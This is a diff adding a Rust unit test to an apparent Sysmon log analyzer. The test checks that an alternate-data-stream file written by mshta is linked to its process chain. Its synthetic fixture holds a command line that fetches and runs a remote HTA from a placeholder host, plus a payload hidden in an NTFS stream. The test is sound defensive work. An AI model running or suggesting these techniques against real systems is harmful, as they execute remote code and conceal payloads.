@@ -168,3 +168,11 @@ fn bad_items_of_known_schemas_name_the_missing_field() {
         assert!(r.errors[0].reason.contains(field), "{line}: {}", r.errors[0].reason);
     }
 }
+
+#[test]
+fn sysmon_15_named_streams_are_file_activity() {
+    let start = r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":"2024-05-01 10:00:00.000","ProcessGuid":"{00000000-0000-0000-0000-000000000001}","ProcessId":"10","Image":"C:\\Windows\\System32\\mshta.exe","CommandLine":"mshta https://x.example/a.hta"}"#;
+    let ads = r#"{"EventID":15,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"H","UtcTime":"2024-05-01 10:00:01.000","ProcessGuid":"{00000000-0000-0000-0000-000000000001}","ProcessId":"10","Image":"C:\\Windows\\System32\\mshta.exe","TargetFilename":"C:\\Users\\Public\\notes.txt:payload.hta","Hash":"SHA256=00"}"#;
+    let report = analyze(format!("{start}\n{ads}\n").as_bytes(), &Config::default());
+    assert_eq!(report.chains[0].files[0].path, "C:\\Users\\Public\\notes.txt:payload.hta");
+}
